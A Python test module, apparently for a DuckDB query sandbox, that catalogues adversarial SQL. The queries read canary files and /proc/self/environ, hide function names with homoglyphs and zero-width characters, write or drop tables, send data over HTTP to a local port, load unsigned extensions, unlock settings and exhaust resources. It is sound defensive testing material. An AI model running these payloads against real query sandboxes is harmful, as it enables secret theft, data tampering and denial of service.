"""Detectors that an adversary would write: what each tries, and its SQL.

`{dir}` holds what must not be read, `{out}` is where nothing may be written, `{night}` is the
night's file, `{port}` listens. The allow-list refuses all but the hogs. What the locked process
does with them when no list stands before it is the word of their group: it refuses them, or
they run and reach nothing outside of themselves.
"""

REFUSED = "refused"
HARMLESS = "runs, reaches nothing"

READS = {
    "a CSV file": "SELECT * FROM read_csv('{dir}/canary.csv')",
    "a CSV file, in capitals": "SELECT * FROM READ_CSV_AUTO('{dir}/canary.csv')",
    "its dialect": "SELECT * FROM sniff_csv('{dir}/canary.csv')",
    "a Parquet file": "SELECT * FROM read_parquet('{dir}/canary.parquet')",
    "its schema": "SELECT * FROM parquet_schema('{dir}/canary.parquet')",
    "its metadata": "SELECT * FROM parquet_metadata('{dir}/canary.parquet')",
    "a JSON file": "SELECT * FROM read_json('{dir}/canary.json')",
    "a text file": "SELECT * FROM read_text('{dir}/canary.csv')",
    "bytes": "SELECT * FROM read_blob('{dir}/canary.csv')",
    "a listing": "SELECT * FROM glob('{dir}/*')",
    "a database file": "SELECT * FROM read_duckdb('{dir}/canary.duckdb')",
    "a file as a table": "SELECT * FROM '{dir}/canary.csv'",
    "a file as a quoted table": 'SELECT * FROM "{dir}/canary.parquet"',
    "FROM first": "FROM '{dir}/canary.json'",
    "TABLE": "TABLE '{dir}/canary.csv'",
    "a description": "DESCRIBE FROM '{dir}/canary.csv'",
    "a summary": "SUMMARIZE FROM '{dir}/canary.csv'",
    "a plan that runs": "EXPLAIN ANALYZE SELECT * FROM read_text('{dir}/canary.csv')",
    "a pivot of a file": "PIVOT '{dir}/canary.csv' ON a",
    "a file URL": "SELECT * FROM read_text('file://{dir}/canary.csv')",
    "a path with dots": "SELECT * FROM read_text('{night}/../../canary/../{dir}/canary.csv')",
    "the environment": "SELECT * FROM read_text('/proc/self/environ')",
    "the requests": "SELECT * FROM read_text('/dev/stdin')",
    "getenv": "SELECT getenv('NIGHTPORTER_CANARY') FROM access",
    "a variable of Python": "SELECT * FROM request",
    "in a CTE": "WITH x AS (FROM read_text('{dir}/canary.csv')) SELECT * FROM x",
    "in a recursive CTE":
        "WITH RECURSIVE x AS (FROM glob('{dir}/*') UNION SELECT * FROM x) SELECT * FROM x",
    "in a scalar subquery": "SELECT (SELECT content FROM read_text('{dir}/canary.csv'))",
    "in a lambda": "SELECT list_transform([1], lambda x: (SELECT max(file) FROM glob('{dir}/*')))",
    "in a join": "SELECT * FROM access JOIN read_text('{dir}/canary.csv') ON true",
    "in VALUES": "VALUES ((SELECT content FROM read_text('{dir}/canary.csv')))",
    "in LIMIT": "FROM access LIMIT (SELECT size FROM read_text('{dir}/canary.csv'))",
    "in a cast": "SELECT (SELECT content FROM read_text('{dir}/canary.csv'))::INT",
    "in a union": "SELECT 'a' UNION ALL SELECT content FROM read_text('{dir}/canary.csv')",
    "in a view": "CREATE TEMP VIEW v AS FROM read_text('{dir}/canary.csv'); FROM v",
    "in a macro": "CREATE TEMP MACRO m() AS TABLE FROM read_text('{dir}/canary.csv'); FROM m()",
    "in a prepared statement": "PREPARE p AS FROM read_text('{dir}/canary.csv'); EXECUTE p",
    "in a variable": "SET VARIABLE f = '{dir}/canary.csv'; FROM read_text(getvariable('f'))",
    "in a table": "CREATE TEMP TABLE t (a TEXT); COPY t FROM '{dir}/canary.csv'; FROM t",
    "through query": "SELECT * FROM query('FROM read_text(''{dir}/canary.csv'')')",
    "through query_table": "SELECT * FROM query_table('{dir}/canary.csv')",
    "through JSON":
        "FROM json_execute_serialized_sql(json_serialize_sql('FROM ''{dir}/canary.csv'''))",
    "an import": "IMPORT DATABASE '{dir}'",
}  # fmt: skip

DISGUISED = {
    "a comment in the middle": "SELECT * FROM/**/read_text/* ( */('{dir}/canary.csv')",
    "a comment in a comment": "/* /* */ SELECT 1; */ SELECT * FROM read_text('{dir}/canary.csv')",
    "a comment after a comment": "-- SELECT user_id, day FROM access\nCOPY access TO '{out}/a.csv'",
    "two statements": "SELECT user_id, day FROM access; COPY access TO '{out}/a.csv'",
    "a statement behind a comment":
        "SELECT user_id, day FROM access -- ;\n; COPY access TO '{out}/a.csv'",
    "a quoted name": "SELECT * FROM \"read_text\"('{dir}/canary.csv')",
    "a schema": "SELECT * FROM main.read_text('{dir}/canary.csv')",
    "a catalog": "SELECT * FROM system.main.read_text('{dir}/canary.csv')",
    "dollar quotes": "SELECT * FROM read_text($x${dir}/canary.csv$x$)",
    "escapes": "SELECT * FROM read_text(E'{dir}\\x2fcanary.csv')",
    "a pasted path": "SELECT * FROM read_text('{dir}' || chr(47) || 'canary.csv')",
    "fullwidth letters": "SELECT * FROM ｒｅａｄ_ｔｅｘｔ('{dir}/canary.csv')",
    "a Cyrillic letter": "SELECT * FROM reаd_text('{dir}/canary.csv')",
    "a letter that is not there": "SELECT * FROM read\u200b_text('{dir}/canary.csv')",
    "text that turns round": "SELECT * FROM \u202eread_text('{dir}/canary.csv')",
    "a CTE named as a table": "WITH access AS (FROM glob('{dir}/*')) FROM access",
    "a recursion named as a file":
        "WITH RECURSIVE '{dir}/canary.csv' AS (FROM '{dir}/canary.csv' UNION SELECT 'x')"
        " FROM '{dir}/canary.csv'",
}  # fmt: skip

WRITES = {
    "a CSV file": "COPY (SELECT 1) TO '{out}/x.csv'",
    "a Parquet file": "COPY (SELECT 1) TO '{out}/x.parquet' (FORMAT parquet)",
    "folders": "COPY (SELECT 1 AS a) TO '{out}/x' (PARTITION_BY (a))",
    "in a CTE": "WITH x AS (COPY (SELECT 1) TO '{out}/x.csv') SELECT 1",
    "an export": "EXPORT DATABASE '{out}/x'",
    "the night's file": "COPY (SELECT 1) TO '{night}'",
    "the answers, by number": "COPY (SELECT 1) TO '/dev/fd/1'",
    "the answers, by name": "COPY (SELECT 1) TO '/dev/stdout'",
    "an insert": "INSERT INTO night.access FROM night.access",
    "an insert in a CTE": "WITH x AS (INSERT INTO night.usb FROM night.usb RETURNING 1) FROM x",
    "an update": "UPDATE night.access SET user_id = 'x'",
    "a delete": "DELETE FROM night.access",
    "a merge": "MERGE INTO night.access USING night.usb ON true WHEN MATCHED THEN DELETE",
    "truncation": "TRUNCATE night.access",
    "a drop": "DROP TABLE night.access",
    "a column": "ALTER TABLE night.access ADD COLUMN x INT",
    "an index": "CREATE INDEX i ON night.access (user_id)",
    "a table": "CREATE TABLE night.main.evil AS SELECT 1",
    "a view": "CREATE VIEW night.main.evil AS SELECT 1",
    "a macro": "CREATE MACRO night.main.lower(x) AS 'x'",
    "a schema": "CREATE SCHEMA night.evil",
    "a sequence": "CREATE SEQUENCE night.main.evil",
    "a type": "CREATE TYPE night.main.evil AS ENUM ('a')",
    "a database in memory": "ATTACH ':memory:' AS evil",
}

BEYOND = {
    "another database": "ATTACH '{dir}/canary.duckdb' AS other (READ_ONLY); FROM other.t",
    "a new database": "ATTACH '{out}/new.duckdb'",
    "the night, writable": "ATTACH '{night}' AS again (READ_WRITE)",
    "a database by HTTP": "ATTACH 'http://127.0.0.1:{port}/x.duckdb' AS other",
    "PostgreSQL": "ATTACH 'host=127.0.0.1 port={port}' AS other (TYPE postgres)",
    "SQLite": "SELECT * FROM sqlite_scan('{dir}/canary.duckdb', 't')",
    "a CSV by HTTP": "SELECT * FROM read_csv('http://127.0.0.1:{port}/x.csv')",
    "a table by HTTP": "SELECT * FROM 'http://127.0.0.1:{port}/x.parquet'",
    "a bucket": "SELECT * FROM read_parquet('s3://127.0.0.1:{port}/*')",
    "sending by HTTP": "COPY access TO 'http://127.0.0.1:{port}/x.csv'",
    "an HTTP function": "SELECT http_get('http://127.0.0.1:{port}/')",
    "a secret": "CREATE PERSISTENT SECRET s (TYPE http)",
    "the secrets": "SELECT * FROM duckdb_secrets()",
    "installing": "INSTALL httpfs",
    "installing from there": "FORCE INSTALL httpfs FROM 'http://127.0.0.1:{port}'",
    "loading": "LOAD httpfs",
    "loading a file": "LOAD '{dir}/canary.csv'",
    "updating": "UPDATE EXTENSIONS",
}

SETTINGS = {
    "access to files": "SET enable_external_access = true",
    "access, by pragma": "PRAGMA enable_external_access = true",
    "access, by a reset": "RESET GLOBAL enable_external_access",
    "the lock": "SET lock_configuration = false",
    "allowed folders": "SET GLOBAL allowed_directories = ['/']",
    "memory": "SET memory_limit = '1TB'",
    "memory, by a reset": "RESET memory_limit",
    "threads": "SET threads = 64",
    "disk": "SET max_temp_directory_size = '1TB'",
    "the spill folder": "SET temp_directory = '{out}'",
    "the time zone": "SET timezone = 'Asia/Tokyo'",
    "extensions that load": "SET autoload_known_extensions = true",
    "unsigned extensions": "SET allow_unsigned_extensions = true",
    "a profile in a file": "PRAGMA profiling_output = '{out}/x.json'",
    "a log in a file":
        "CALL enable_logging(storage = 'file', storage_config = {{'path': '{out}'}})",
}  # fmt: skip

LOOKS = {
    "settings": "SELECT * FROM duckdb_settings()",
    "one setting": "SELECT current_setting('temp_directory') FROM access",
    "databases": "SELECT * FROM duckdb_databases()",
    "databases, by pragma": "PRAGMA database_list",
    "tables": "SELECT * FROM information_schema.tables",
    "tables of old": "SELECT * FROM sqlite_master",
    "columns": "SELECT * FROM pg_catalog.pg_attribute",
    "storage": "SELECT * FROM pragma_storage_info('access')",
    "spilled files": "SELECT * FROM duckdb_temporary_files()",
    "memory": "SELECT * FROM duckdb_memory()",
    "the log": "SELECT * FROM duckdb_logs()",
    "the version": "SELECT version()",
    "the build": "PRAGMA platform",
    "the user": "SELECT current_user",
    "days outside its window": "SELECT * FROM night.main.access",
    "the night's bytes": "SELECT octet_length(content) FROM read_blob('{night}')",
}

CHANCE = {
    "now": "SELECT user_id, now() AS day FROM access",
    "today": "SELECT user_id, current_date AS day FROM access",
    "the age": "SELECT age(TIMESTAMP '2026-01-01')",
    "random": "SELECT random() FROM access",
    "a seed": "SELECT setseed(0.5)",
    "a UUID": "SELECT uuid() FROM access",
    "a sample": "SELECT user_id, day FROM access USING SAMPLE 1",
    "a sample of a table": "SELECT user_id, day FROM access TABLESAMPLE 10%",
    "a transaction's number": "SELECT txid_current()",
    "sleep": "SELECT pg_sleep(0.01)",
}

# What would outlast its detector, if a connection served the next one too.
POISON = {
    "a macro over a function": "CREATE TEMP MACRO count(x) AS 0",
    "a view over a table": "CREATE TEMP VIEW access AS SELECT 1",
    "a table over a table": "CREATE TEMP TABLE access AS SELECT 1",
    "another schema": "SET search_path = 'temp.main'",
    "a transaction without end": "BEGIN TRANSACTION",
    "a statement under our name": "PREPARE np_detector AS SELECT 1",
    "a word for the next": "SET VARIABLE said = 'x'",
    "a file in the spill folder": "COPY (SELECT 1) TO '{spill}/x.csv'",
    "a checkpoint": "FORCE CHECKPOINT",
}

# What the allow-list lets pass: a SELECT that is only too much.
_FOUND = "'x' AS user_id, DATE '2026-01-05' AS day"
_ENDLESS = "WITH RECURSIVE r AS (SELECT 1 AS n UNION ALL SELECT n + 1 FROM r)"
_DOUBLED = "WITH RECURSIVE r AS (SELECT 'x' AS t UNION ALL SELECT t || t FROM r)"
HOGS = {
    "a recursion without end": f"{_ENDLESS} SELECT {_FOUND}, count(*) AS n FROM r",
    "a text that doubles": f"{_DOUBLED} SELECT {_FOUND}, max(len(t)) AS n FROM r",
    "a cross join":
        f"SELECT {_FOUND}, count(*) AS n FROM range(1000000) AS a, range(1000000) AS b"
        " WHERE a.range + b.range <> 7",
    "a distance": f"SELECT {_FOUND}, levenshtein(repeat('ab', 999999), repeat('b', 999999)) AS n",
    "a list of gigabytes": f"SELECT {_FOUND}, len(list_sort(range(800000000))) AS n",
    "a text of gigabytes": f"SELECT {_FOUND}, len(repeat('x', 3000000000)) AS n",
    "a pad of gigabytes": "SELECT user_id, day, len(lpad('x', 2000000000, host)) AS n FROM access",
    "a replacement that swells":
        f"SELECT {_FOUND}, len(regexp_replace(repeat('a', 9999999), 'a', repeat('b', 999), 'g'))",
    "a pattern that swells": f"SELECT {_FOUND}, regexp_matches('a', '((a{{1000}}){{1000}}){{9}}')",
    "a sum of texts":
        f"SELECT {_FOUND}, len(string_agg(repeat('x', 1000), '')) AS n FROM range(100000000)",
    "a sort beyond the disk":
        f"SELECT {_FOUND}, max(n) AS n FROM (SELECT row_number() OVER"
        " (ORDER BY hash(range), repeat('x', 100)) AS n FROM range(3000000000))",
    "a million findings": "SELECT user_id || range AS user_id, day FROM access, range(3000000)",
    "an error as long as a log": f"SELECT {_FOUND}, repeat('x', 500000)::INT AS n",
    "an error with a line of its own": f"SELECT {_FOUND}, (chr(10) || 'LINE 1: ')::INT AS n",
    "a date without end": f"SELECT {_FOUND}, DATE 'infinity' AS until",
    "an hour beyond the calendar": f"SELECT {_FOUND}, [TIMESTAMP '290000-01-01'] AS hours",
    "a surprise without end": f"SELECT {_FOUND}, 'inf'::DOUBLE AS surprise",
    "a span of months": f"SELECT {_FOUND}, INTERVAL 3 MONTHS AS span",
    "a type of many lists": f"SELECT {_FOUND}, NULL::INT{'[]' * 70} AS n",
}  # fmt: skip

GROUPS = {
    "read": (READS, REFUSED),
    "disguise itself": (DISGUISED, REFUSED),
    "write": (WRITES, REFUSED),
    "go beyond": (BEYOND, REFUSED),
    "change a setting": (SETTINGS, REFUSED),
    "look around": (LOOKS, HARMLESS),
    "ask for time and chance": (CHANCE, HARMLESS),
    "poison the next": (POISON, HARMLESS),
}


def table() -> str:
    """Return the attacks as the docs show them."""
    rows = [
        f"| {group} | {len(attacks)} | {'; '.join(attacks)} | refused | {alone} |"
        for group, (attacks, alone) in GROUPS.items()
    ]
    hogs = f"| be too much | {len(HOGS)} | {'; '.join(HOGS)} | passes | stopped |"
    head = "| to | | by way of | the list | the locked process alone |\n| --- " + "| --- " * 4 + "|"
    return "\n".join([head, *rows, hogs])
